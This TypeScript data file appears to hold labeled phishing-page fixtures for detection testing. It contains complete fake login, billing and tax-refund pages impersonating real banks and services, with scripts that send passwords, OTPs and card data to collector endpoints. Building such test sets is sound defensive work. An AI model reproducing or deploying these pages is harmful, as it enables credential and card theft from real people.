import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, pngRoute, jsRoute, jsonRoute } from '../parts/p-kit.js';

export const entries: Entry[] = [
{
  id: 'p-phish-bank-netbank-au',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://netbank-commbank-verify.com.au-secure.app/netbank/logon',
  body: doc({
    lang: 'en-AU',
    title: 'NetBank - Log on to NetBank - Commonwealth Bank',
    css: 'body{background:#f5f5f5}.top{background:#ffcc00;height:64px;display:flex;align-items:center;padding:0 24px}.box{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:4px;box-shadow:0 1px 3px rgba(0,0,0,.2)}label{font-size:14px;display:block;margin-top:12px}input{width:100%;padding:11px;border:1px solid #999;border-radius:3px}button{margin-top:20px;width:100%;padding:12px;background:#ffcc00;border:0;font-weight:700;font-size:16px}',
    body: `<div class="top"><img src="/netbank/cba.png" width="40" height="40" alt="CommBank"> <b style="margin-left:10px">NetBank</b></div>
<div class="box"><h2 style="margin-top:0">Log on to NetBank</h2>
<p style="font-size:13px;background:#fff4cc;padding:8px">For your security, we have temporarily restricted your account after unusual activity. Log on to verify your identity.</p>
<form id="f" method="post" action="/netbank/logon.php">
<label>Client number</label><input name="cn" inputmode="numeric" maxlength="8">
<label>Password</label><input name="pw" type="password">
<label><input type="checkbox" style="width:auto"> Remember client number</label>
<button>Log on</button></form>
<p style="font-size:13px"><a href="#">Forgot your log on details?</a> · <a href="#">Register for NetBank</a></p></div>
<p style="text-align:center;font-size:12px;color:#666">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p>`,
  }),
  routes: { 'netbank-commbank-verify.com.au-secure.app/netbank/cba.png': pngRoute(255, 204, 0) },
},
{
  id: 'p-phish-bank-ing-app-verlopen-nl',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://mijn-ing-bevestigen.nl-app.eu/inloggen/',
  body: doc({
    lang: 'nl',
    title: 'Mijn ING – Inloggen',
    css: 'body{background:#f0f0f0}.h{background:#fff;border-bottom:4px solid #ff6200;padding:14px 24px;color:#ff6200;font-weight:800;font-size:24px}.c{max-width:460px;margin:30px auto;background:#fff;padding:26px}input{width:100%;padding:12px;margin:4px 0 12px;border:1px solid #aaa}button{background:#ff6200;color:#fff;border:0;padding:12px 28px;font-size:16px;border-radius:3px}.step{display:none}.step.on{display:block}',
    body: `<div class="h">ING 🦁</div>
<div class="c">
<div class="step on" id="s1"><h2>Uw ING App verloopt</h2><p>Vanaf 1 december moet uw ING App opnieuw worden geactiveerd. Doet u dit niet, dan wordt mobiel bankieren geblokkeerd. Log in om uw app te verlengen.</p>
<label>Gebruikersnaam</label><input id="u"><label>Wachtwoord</label><input id="p" type="password"><button onclick="go(2)">Inloggen</button></div>
<div class="step" id="s2"><h2>Controle rekeninggegevens</h2><label>IBAN</label><input id="iban" placeholder="NL00 INGB 0000 0000 00"><label>Pasnummer (achterkant)</label><input id="pas" maxlength="4"><label>Vervaldatum pas</label><input id="vv" placeholder="MM/JJ"><button onclick="go(3)">Volgende</button></div>
<div class="step" id="s3"><h2>Bevestig met identificatiecode</h2><p>Een ING medewerker neemt binnen 10 minuten telefonisch contact met u op om de verlenging te voltooien. Houd uw pas bij de hand.</p><label>Mobiel nummer</label><input id="tel"><button onclick="go(4)">Bevestigen</button></div>
<div class="step" id="s4"><h2>Bedankt</h2><p>Uw verzoek is ontvangen. U wordt zo spoedig mogelijk gebeld.</p></div>
</div>
<script>function go(n){var d={};document.querySelectorAll('input').forEach(function(i){d[i.id]=i.value});navigator.sendBeacon('/inloggen/api.php',JSON.stringify(d));document.querySelectorAll('.step').forEach(function(x){x.classList.remove('on')});document.getElementById('s'+n).classList.add('on')}</script>`,
  }),
  routes: { 'mijn-ing-bevestigen.nl-app.eu/inloggen/api.php': jsonRoute({ s: 1 }) },
},
{
  id: 'p-phish-bank-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://sparkasse-pushtan-aktualisierung.de-kunden.info/de/home/onlinebanking.html',
  body: doc({
    lang: 'de',
    title: 'Online-Banking – Sparkasse',
    css: 'body{background:#fff}.h{background:#ff0000;color:#fff;padding:14px 24px;font-size:22px;font-weight:700}.c{max-width:520px;margin:30px auto;padding:0 20px}input{width:100%;padding:11px;border:1px solid #888;margin:4px 0 14px}button{background:#ff0000;color:#fff;border:0;padding:12px 30px;font-size:16px}.info{background:#f2f2f2;padding:14px;font-size:14px;margin-bottom:18px}',
    body: `<div class="h">Ṡ Sparkasse</div>
<div class="c"><h1 style="font-size:26px">Anmelden im Online-Banking</h1>
<div class="info"><b>Wichtiger Hinweis:</b> Aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) muss Ihr pushTAN-Verfahren bis zum <b>05.12.2026</b> aktualisiert werden. Andernfalls wird Ihr Online-Zugang aus Sicherheitsgründen gesperrt.</div>
<form action="/de/home/login.php" method="post">
<label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz">
<label>Anmeldename oder Legitimations-ID</label><input name="user">
<label>PIN</label><input type="password" name="pin">
<button>Anmelden</button></form>
<p style="font-size:13px;color:#666">Sicherheitshinweis: Die Sparkasse fragt Sie niemals per E-Mail nach Ihren Zugangsdaten.</p></div>
${footer([['Sparkasse', 'Impressum', 'Datenschutz', 'Preise und Hinweise']], '© 2026 Sparkasse. Alle Rechte vorbehalten.', '#eee')}`,
  }),
},
{
  id: 'p-phish-bank-santander-otp-script-es',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://santander-clientes-validacion.es-seg.net/particulares/acceso',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Santander</title>
<link rel="icon" href="/particulares/fav.png"><style>body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}</style></head>
<body><div id="app"></div><noscript>Habilite JavaScript</noscript>
<script src="/particulares/app.min.js"></script></body></html>`,
  routes: {
    'santander-clientes-validacion.es-seg.net/particulares/fav.png': pngRoute(236, 0, 0),
    'santander-clientes-validacion.es-seg.net/particulares/app.min.js': jsRoute(`(function(){var _0x=['Acceso clientes','Documento (NIF/NIE/Pasaporte)','Clave de acceso','Entrar','Hemos detectado un acceso desde un dispositivo no reconocido. Para continuar, valide su identidad.','Introduzca el código SMS (OTP) que le hemos enviado','Validar','/particulares/x.php'];
var a=document.getElementById('app');function h(t,c,s){var e=document.createElement(t);if(c)e.textContent=c;if(s)e.style.cssText=s;return e}
var top=h('div','Santander','background:#ec0000;color:#fff;font-size:26px;font-weight:bold;padding:16px 24px');a.appendChild(top);
var box=h('div',null,'max-width:400px;margin:30px auto;background:#fff;padding:24px;border-radius:6px');a.appendChild(box);
box.appendChild(h('h2',_0x[0]));box.appendChild(h('p',_0x[4],'font-size:13px;color:#555'));
function inp(p,t){var i=h('input',null,'display:block;width:100%;padding:12px;margin:8px 0;border:1px solid #ccc;border-radius:4px;box-sizing:border-box');i.placeholder=p;if(t)i.type=t;box.appendChild(i);return i}
var u=inp(_0x[1]),p=inp(_0x[2],'password');var b=h('button',_0x[3],'width:100%;padding:13px;background:#ec0000;color:#fff;border:0;border-radius:24px;font-size:16px');box.appendChild(b);
b.onclick=function(){fetch(_0x[7],{method:'POST',body:new URLSearchParams({u:u.value,p:p.value})}).catch(function(){});box.innerHTML='';box.appendChild(h('h3',_0x[5]));var o=inp('______');o.maxLength=6;var v=h('button',_0x[6],'width:100%;padding:13px;background:#ec0000;color:#fff;border:0;border-radius:24px');box.appendChild(v);v.onclick=function(){fetch(_0x[7],{method:'POST',body:new URLSearchParams({otp:o.value})});box.innerHTML='<p>Procesando… no cierre esta ventana.</p>'}};
})();`),
    'santander-clientes-validacion.es-seg.net/particulares/x.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'p-phish-bank-credit-agricole-certicode-fr',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://ca-securipass-activation.fr-clients.com/particuliers/acces',
  body: doc({
    lang: 'fr',
    title: 'Crédit Agricole – Accès à mes comptes',
    css: 'body{background:#eef3f3}.h{background:#fff;padding:14px 24px;border-bottom:3px solid #00915a;color:#00915a;font-weight:700;font-size:20px}.c{max-width:440px;margin:28px auto;background:#fff;padding:24px}.pad{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:10px 0}.pad button{padding:14px;border:1px solid #ccc;background:#fafafa;font-size:18px}input{width:100%;padding:11px;border:1px solid #aaa}',
    body: `<div class="h">Crédit Agricole</div>
<div class="c"><h2>Activation SécuriPass obligatoire</h2>
<p style="font-size:14px">Votre authentification forte SécuriPass expire. Sans réactivation sous 48h, l'accès à vos comptes sera suspendu.</p>
<label>Identifiant (11 chiffres)</label><input id="id" maxlength="11">
<p>Code personnel (6 chiffres)</p><input id="code" type="password" readonly>
<div class="pad" id="pad"></div>
<button style="width:100%;padding:12px;background:#00915a;color:#fff;border:0;font-size:16px" onclick="s()">Valider</button>
<p style="font-size:12px;color:#666">Sélectionnez votre région : <select><option>Île-de-France</option><option>Aquitaine</option><option>Nord Est</option><option>Provence Côte d'Azur</option></select></p></div>
<script>var d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});var pad=document.getElementById('pad');d.forEach(function(n){var b=document.createElement('button');b.textContent=n;b.onclick=function(){var c=document.getElementById('code');if(c.value.length<6)c.value+=n};pad.appendChild(b)});
function s(){var x=new XMLHttpRequest();x.open('POST','/particuliers/rcv.php');x.send('id='+document.getElementById('id').value+'&c='+document.getElementById('code').value);location.href='/particuliers/carte'}</script>`,
  }),
},
{
  id: 'p-phish-delivery-dhl-zoll-de',
  label: 'phishing',
  kind: 'delivery-fee',
  url: 'https://dhl-zollgebuehr.paket-info.de.com/sendung/ZO-3399120/',
  body: doc({
    lang: 'de',
    title: 'DHL Paket – Zollgebühr offen',
    css: 'body{background:#f2f2f2}.h{background:#ffcc00;padding:16px 24px;color:#d40511;font-weight:900;font-style:italic;font-size:26px}.c{max-width:560px;margin:24px auto;background:#fff;padding:22px}.bar{height:8px;background:#ddd;border-radius:4px}.bar i{display:block;height:8px;width:75%;background:#d40511;border-radius:4px}',
    body: `<div class="h">DHL</div>
<div class="c"><p style="color:#666;font-size:13px">Sendungsnummer: 00340434161094022115</p>
<h2>Ihre Sendung wird beim Zoll zurückgehalten</h2><div class="bar"><i></i></div>
<p>Für Ihre Sendung aus einem Nicht-EU-Land fallen Einfuhrabgaben in Höhe von <b>2,99 €</b> an. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.</p>
<form action="/sendung/ZO-3399120/pay" method="post" style="display:grid;gap:8px">
<input name="name" placeholder="Vor- und Nachname" style="padding:10px"><input name="str" placeholder="Straße und Hausnummer" style="padding:10px"><input name="plz" placeholder="PLZ / Ort" style="padding:10px">
<input name="kk" placeholder="Kartennummer (Visa / Mastercard)" style="padding:10px"><div style="display:flex;gap:8px"><input name="ab" placeholder="MM/JJ" style="padding:10px;flex:1"><input name="pz" placeholder="CVC" style="padding:10px;flex:1"></div>
<button style="background:#d40511;color:#fff;border:0;padding:13px;font-size:16px">2,99 € jetzt bezahlen</button></form></div>`,
  }),
},
{
  id: 'p-phish-streaming-netflix-payment',
  label: 'phishing',
  kind: 'streaming-billing',
  url: 'https://netflix-billing-update.account-hold.com/youraccount/payment',
  body: doc({
    lang: 'en',
    title: 'Netflix',
    css: 'body{background:#fff}.h{padding:18px 36px;border-bottom:1px solid #e6e6e6}.h b{color:#e50914;font-size:34px;letter-spacing:-1px}.c{max-width:440px;margin:30px auto;padding:0 20px}input{width:100%;padding:14px;margin:5px 0;border:1px solid #8c8c8c;border-radius:2px}button{width:100%;background:#e50914;color:#fff;border:0;padding:16px;font-size:18px;margin-top:12px;border-radius:4px}',
    body: `<div class="h"><b>NETFLIX</b></div>
<div class="c"><p style="font-size:13px;color:#333">STEP <b>2</b> OF <b>2</b></p><h1 style="font-size:28px">Update your payment method</h1>
<p>Your membership is on hold. We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</p>
<form action="/youraccount/process.php" method="post"><input name="fn" placeholder="First name"><input name="ln" placeholder="Last name"><input name="ccn" placeholder="Card number"><input name="ed" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="CVV"><input name="zip" placeholder="Billing ZIP / Postcode">
<button>Save</button></form><p style="font-size:12px;color:#737373">Your payments will be processed internationally. Additional bank fees may apply.</p></div>`,
  }),
},
{
  id: 'p-phish-social-instagram-copyright',
  label: 'phishing',
  kind: 'social-appeal',
  url: 'https://help-instagram-copyright.com/appeal/form?case=IG-77310495',
  body: doc({
    lang: 'en',
    title: 'Instagram Help Center | Copyright Infringement Appeal',
    css: 'body{background:#fafafa}.c{max-width:480px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px;text-align:center}input{width:100%;padding:10px;margin:5px 0;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px}button{width:100%;background:#0095f6;color:#fff;border:0;padding:9px;border-radius:8px;font-weight:600;margin-top:8px}',
    body: `<div class="c"><h1 style="font-family:cursive;font-weight:400">Instagram</h1>
<h3>Copyright Infringement Detected</h3>
<p style="font-size:14px;color:#555;text-align:left">We have received a complaint that a post on your account infringes copyright. If you believe this is a mistake, you must submit an appeal within 24 hours. Otherwise your account will be permanently disabled according to our Community Guidelines.</p>
<p style="font-size:13px;color:#8e8e8e">Case: IG-77310495</p>
<form id="f"><input name="u" placeholder="Username"><input name="e" placeholder="Email or phone"><input name="p" type="password" placeholder="Password"><textarea placeholder="Please explain (optional)" style="width:100%;height:70px;margin-top:5px;border:1px solid #dbdbdb"></textarea>
<button type="submit">Submit Appeal</button></form>
<p style="font-size:12px;color:#8e8e8e">from<br><b>Meta</b></p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fetch('/appeal/send.php',{method:'POST',body:fd}).finally(function(){document.querySelector('.c').innerHTML='<h3>Incorrect password. Please try again.</h3><input type=password placeholder=Password><button>Confirm</button>'})}</script>`,
  }),
},
{
  id: 'p-phish-webmail-m365-shared-doc',
  label: 'phishing',
  kind: 'webmail-login',
  url: 'https://sharepoint-docs-view.azurewebsites-files.com/viewer/?doc=Q4_Remittance_Advice.pdf&e=finance@',
  body: doc({
    lang: 'en',
    title: 'Sign in to your account',
    css: 'body{background:#f2f2f2 url(/viewer/bg.png)}.box{width:440px;max-width:92%;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:12px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}',
    body: `<div class="box"><div style="font-size:20px;color:#737373;font-weight:600">▦ Microsoft</div>
<div id="s1"><h2 style="font-weight:600;font-size:24px">Sign in</h2><p style="font-size:13px">to view <b>Q4_Remittance_Advice.pdf</b> shared with you via OneDrive</p>
<input id="em" type="email" placeholder="Email, phone, or Skype"><p style="font-size:13px">No account? <a href="#" style="color:#0067b8">Create one!</a></p><button onclick="n()">Next</button><div style="clear:both"></div></div>
<div id="s2" style="display:none"><p id="who" style="font-size:14px"></p><h2 style="font-weight:600;font-size:24px">Enter password</h2><input id="pw" type="password" placeholder="Password"><p id="err" style="color:#e81123;font-size:13px"></p><button onclick="p()">Sign in</button><div style="clear:both"></div></div></div>
<script>
var q=new URLSearchParams(location.search);var pre=(q.get('e')||'')+(location.hash||'').slice(1);if(pre.indexOf('@')>0&&pre.split('@')[1])document.getElementById('em').value=pre;
var tries=0;function n(){var e=document.getElementById('em').value;if(!/.+@.+\\..+/.test(e))return;document.getElementById('who').textContent=e;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}
function p(){tries++;var x=new XMLHttpRequest();x.open('POST','/viewer/next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('e='+encodeURIComponent(document.getElementById('em').value)+'&p='+encodeURIComponent(document.getElementById('pw').value)+'&t='+tries);
if(tries<2){document.getElementById('err').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';document.getElementById('pw').value=''}else{location.href='https://www.office.com/'}}
</script>`,
  }),
  routes: { 'sharepoint-docs-view.azurewebsites-files.com/viewer/bg.png': pngRoute(210, 220, 230) },
},
{
  id: 'p-phish-card-smbc-ja',
  label: 'phishing',
  kind: 'card-verify',
  url: 'https://smbc-card.vpass-security-check.jp.net/vpass/login',
  body: doc({
    lang: 'ja',
    title: '三井住友カード Vpass ログイン',
    css: 'body{background:#f4f4f4;font-family:"Meiryo",sans-serif}.h{background:#004831;color:#fff;padding:14px 24px;font-weight:700}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #aaa}button{width:100%;background:#c8a200;color:#fff;border:0;padding:13px;font-size:16px}',
    body: `<div class="h">三井住友カード Vpass</div>
<div class="c"><p style="color:#c00;font-size:14px">【重要】ご利用確認のお願い：第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時的に制限しております。以下よりご本人確認をお願いいたします。</p>
<form action="/vpass/step2" method="post"><label>Vpass ID</label><input name="id"><label>パスワード</label><input name="pw" type="password">
<label>カード番号</label><input name="card"><label>有効期限（月/年）</label><input name="exp"><label>セキュリティコード</label><input name="cvc"><label>生年月日</label><input name="dob" placeholder="1980/01/01"><label>暗証番号（4桁）</label><input name="pin" type="password" maxlength="4">
<button>確認する</button></form></div>
<p style="text-align:center;font-size:11px;color:#777">Copyright © Sumitomo Mitsui Card Co., Ltd.</p>`,
  }),
},
{
  id: 'p-phish-meta-business-disabled',
  label: 'phishing',
  kind: 'social-appeal',
  url: 'https://meta-business-support-center.vercel-app.info/contact/1043325',
  body: doc({
    lang: 'en',
    title: 'Meta for Business – Page Policy Violation',
    css: 'body{background:#f0f2f5}.c{max-width:560px;margin:30px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 2px rgba(0,0,0,.2)}input,textarea{width:100%;padding:11px;margin:5px 0;border:1px solid #ccd0d5;border-radius:6px}button{width:100%;background:#1877f2;color:#fff;border:0;padding:12px;border-radius:6px;font-weight:600}',
    body: `<div class="c"><h2>∞ Meta Business Help Center</h2>
<p><b>Your page has been scheduled for permanent deletion</b> due to a violation of our trademark policies. If you think this is a mistake, you may appeal within 24 hours.</p>
<p style="font-size:13px;color:#65676b">Ticket ID: #1043325-FB</p>
<form id="f"><input name="full" placeholder="Full name"><input name="biz" placeholder="Business email"><input name="personal" placeholder="Personal email"><input name="phone" placeholder="Phone number"><input name="page" placeholder="Facebook page name"><textarea name="msg" placeholder="Please provide us information that will help us investigate."></textarea><button>Submit</button></form></div>
<div id="m" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)"><div style="max-width:400px;margin:120px auto;background:#fff;padding:20px;border-radius:8px"><h3>Please enter your password</h3><p style="font-size:13px">For your security, you must re-enter your password to continue.</p><input id="pw" type="password" style="width:100%;padding:10px"><button onclick="fetch('/contact/pw',{method:'POST',body:document.getElementById('pw').value});document.getElementById('m').innerHTML='<div style=\\'max-width:400px;margin:120px auto;background:#fff;padding:20px\\'><h3>Two-factor authentication required</h3><input placeholder=\\'Code\\'></div>'">Continue</button></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/contact/info',{method:'POST',body:new FormData(this)});document.getElementById('m').style.display='block'}</script>`,
  }),
},
{
  id: 'p-phish-steam-bitb-trade',
  label: 'phishing',
  kind: 'browser-in-browser',
  url: 'https://cs2-skins-tournament.gg/vote/team-falcons',
  body: doc({
    lang: 'en',
    title: 'CS2 Major Community Vote – Win Exclusive Skins',
    css: 'body{background:#111318;color:#fff}.c{max-width:760px;margin:30px auto;text-align:center}.t{display:inline-block;width:160px;margin:10px;padding:16px;background:#1d2029;border-radius:8px}.btn{background:#5c7e10;color:#fff;border:0;padding:14px 30px;font-size:16px;border-radius:4px}#pop{display:none;position:fixed;top:60px;left:50%;transform:translateX(-50%);width:520px;max-width:96%;background:#fff;color:#000;border-radius:8px;box-shadow:0 20px 60px rgba(0,0,0,.6);overflow:hidden}.bar{background:#dee1e6;padding:8px 12px;font-size:13px;text-align:left}.url{background:#fff;border-radius:12px;padding:3px 10px;display:inline-block;margin-left:10px}',
    body: `<div class="c"><h1>Vote for the best team and get a free skin!</h1><p>Community event sponsored by the Major organisers. 1 vote per Steam account.</p>
<div class="t">🦅<br>Team Falcons<br><small>41%</small></div><div class="t">🐉<br>Vitality<br><small>33%</small></div><div class="t">⚡<br>NaVi<br><small>26%</small></div><br><br>
<button class="btn" onclick="document.getElementById('pop').style.display='block'">Sign in through Steam to vote</button></div>
<div id="pop"><div class="bar">● ● ● <span class="url">🔒 https://steamcommunity.com/openid/login</span></div>
<div style="background:#171a21;color:#c7d5e0;padding:24px"><h2 style="margin-top:0">STEAM</h2><p>Sign in to cs2-skins-tournament.gg using your Steam account</p>
<form action="/vote/steam-auth" method="post"><input name="username" placeholder="Steam account name" style="width:100%;padding:10px;margin:4px 0;background:#32353c;border:0;color:#fff"><input name="password" type="password" placeholder="Password" style="width:100%;padding:10px;margin:4px 0;background:#32353c;border:0;color:#fff"><button style="background:#1a9fff;color:#fff;border:0;padding:10px 30px;margin-top:8px">Sign in</button></form>
<p style="font-size:11px">Note that cs2-skins-tournament.gg is not affiliated with Steam or Valve Corp.</p></div></div>`,
  }),
},
{
  id: 'p-phish-bank-pko-blik-pl',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://olx-pl-dostawa.bezpieczna-transakcja.online/oferta/odbierz-platnosc/91022',
  body: doc({
    lang: 'pl',
    title: 'OLX – Odbierz płatność | Bezpieczna transakcja',
    css: 'body{background:#f2f4f5}.h{background:#002f34;color:#fff;padding:14px 24px;font-weight:800;font-size:24px}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:4px}.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.banks a{border:1px solid #ccd;padding:16px;text-align:center;text-decoration:none;border-radius:4px;font-weight:700}',
    body: `<div class="h">OLX</div>
<div class="c"><h2>Kupujący opłacił Twój przedmiot</h2><p>Przedmiot: <b>iPhone 13 128GB – stan idealny</b><br>Kwota do wypłaty: <b>1 850,00 zł</b></p>
<p>Środki zostały zablokowane na koncie OLX. Aby je otrzymać, wybierz swój bank i zaloguj się, aby potwierdzić odbiór płatności.</p>
<div class="banks"><a href="/oferta/odbierz-platnosc/91022/pko">PKO BP</a><a href="/oferta/odbierz-platnosc/91022/mbank">mBank</a><a href="/oferta/odbierz-platnosc/91022/ing">ING</a><a href="/oferta/odbierz-platnosc/91022/pekao">Pekao</a><a href="/oferta/odbierz-platnosc/91022/santander">Santander</a><a href="/oferta/odbierz-platnosc/91022/millennium">Millennium</a></div>
<p style="font-size:12px;color:#666">Bezpieczna transakcja OLX · Ochrona kupującego i sprzedającego</p></div>`,
  }),
  routes: {
    'olx-pl-dostawa.bezpieczna-transakcja.online/oferta/odbierz-platnosc/91022/pko': htmlRoute(`<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>PKO Bank Polski – logowanie</title></head><body style="font-family:Arial;margin:0;background:#f5f5f5"><div style="background:#003574;color:#fff;padding:16px 24px;font-weight:700">PKO Bank Polski · iPKO</div><div style="max-width:380px;margin:40px auto;background:#fff;padding:24px"><h2>Logowanie</h2><form method="post" action="/oferta/odbierz-platnosc/91022/pko/auth"><p>Numer klienta lub login</p><input name="login" style="width:100%;padding:10px"><p>Hasło</p><input type="password" name="haslo" style="width:100%;padding:10px"><button style="margin-top:14px;width:100%;padding:12px;background:#003574;color:#fff;border:0">Zaloguj</button></form></div></body></html>`),
  },
},
{
  id: 'p-phish-bank-caixa-pix-ptbr',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://atendimento-caixa-pix.com.br-seguro.net/acesso',
  body: doc({
    lang: 'pt-BR',
    title: 'CAIXA | Internet Banking – Atualização Cadastral',
    css: 'body{background:#eaf0f6}.h{background:#005ca9;color:#fff;padding:14px 24px;font-weight:800}.h span{color:#f39200}.c{max-width:460px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}input{width:100%;padding:11px;margin:4px 0 12px;border:1px solid #9ab}button{width:100%;padding:12px;background:#f39200;color:#fff;border:0;font-weight:700;font-size:16px}',
    body: `<div class="h">CAIXA <span>X</span></div>
<div class="c"><h2>Atualização cadastral obrigatória</h2>
<p style="font-size:14px">Prezado(a) cliente, identificamos que seu cadastro está desatualizado. Para evitar o bloqueio da sua chave PIX e do seu cartão, atualize seus dados agora.</p>
<form action="/acesso/passo2" method="post"><label>CPF</label><input name="cpf" placeholder="000.000.000-00"><label>Usuário</label><input name="usuario"><label>Senha de internet</label><input name="senha" type="password"><label>Senha do cartão (6 dígitos)</label><input name="senha6" type="password" maxlength="6"><label>Celular</label><input name="cel"><button>Continuar</button></form>
<p style="font-size:11px;color:#888">CAIXA Econômica Federal – SAC 0800 726 0101</p></div>`,
  }),
},
{
  id: 'p-phish-tax-impots-remboursement-fr',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://impots-gouv-remboursement.fr-dgfip.info/espace-particulier/',
  body: doc({
    lang: 'fr',
    title: 'impots.gouv.fr – Remboursement d\'impôt',
    css: '.h{border-bottom:1px solid #ddd;padding:16px 24px;display:flex;gap:16px;align-items:center}.m{font-weight:700;font-size:12px;line-height:1.1;border-left:4px solid #000091;padding-left:8px}.c{max-width:620px;margin:24px auto;padding:0 18px}input{width:100%;padding:10px;margin:4px 0 10px;border:0;border-bottom:2px solid #3a3a3a;background:#eee}button{background:#000091;color:#fff;border:0;padding:12px 24px}',
    body: `<div class="h"><div class="m">RÉPUBLIQUE<br>FRANÇAISE</div><b style="font-size:20px">impots.gouv.fr</b></div>
<div class="c"><h1>Avis de remboursement</h1><p>Après les derniers calculs annuels de votre activité fiscale, nous avons déterminé que vous êtes admissible à un remboursement d'impôt de <b>328,50 €</b>.</p>
<p>Veuillez compléter le formulaire ci-dessous. Le remboursement sera crédité sur votre carte bancaire sous 3 à 5 jours ouvrés.</p>
<form action="/espace-particulier/rembourse.php" method="post"><input name="nom" placeholder="Nom"><input name="prenom" placeholder="Prénom"><input name="naiss" placeholder="Date de naissance (JJ/MM/AAAA)"><input name="fiscal" placeholder="Numéro fiscal (13 chiffres)"><input name="cb" placeholder="Numéro de carte"><input name="exp" placeholder="Date d'expiration"><input name="cvv" placeholder="Cryptogramme visuel"><button>Recevoir mon remboursement</button></form>
<p style="font-size:12px;color:#666">Direction générale des Finances publiques – © 2026</p></div>`,
  }),
},
{
  id: 'p-phish-agenzia-entrate-it-redirect',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://t.notifiche-pec.it-servizi.com/r/8f2a1',
  routes: {
    't.notifiche-pec.it-servizi.com/r/8f2a1': redirectRoute(302, 'https://rimborsi-agenziaentrate.gov-it.online/servizi/rimborso?id=8f2a1'),
    'rimborsi-agenziaentrate.gov-it.online/servizi/rimborso': htmlRoute(doc({
      lang: 'it',
      title: 'Agenzia delle Entrate – Rimborso IRPEF',
      css: '.h{background:#0066cc;color:#fff;padding:16px 24px}.c{max-width:600px;margin:24px auto;padding:0 18px}input{width:100%;padding:10px;margin:4px 0 10px;border:1px solid #99a}button{background:#0066cc;color:#fff;border:0;padding:12px 28px}',
      body: `<div class="h"><b>Agenzia delle Entrate</b> · Servizi online</div>
<div class="c"><h2>Rimborso IRPEF 2025</h2><p>Gentile contribuente, risulta a Suo favore un rimborso di <b>€ 486,20</b>. Per ricevere l'accredito inserisca i dati della carta su cui desidera ricevere il rimborso.</p>
<form action="/servizi/invio" method="post"><input name="cf" placeholder="Codice fiscale"><input name="nome" placeholder="Nome e cognome"><input name="carta" placeholder="Numero carta"><input name="scad" placeholder="Scadenza"><input name="cvv" placeholder="CVV"><input name="tel" placeholder="Cellulare"><button>Richiedi rimborso</button></form>
<p style="font-size:12px;color:#666">© Agenzia delle Entrate – Tutti i diritti riservati</p></div>`,
    })),
  },
},
];
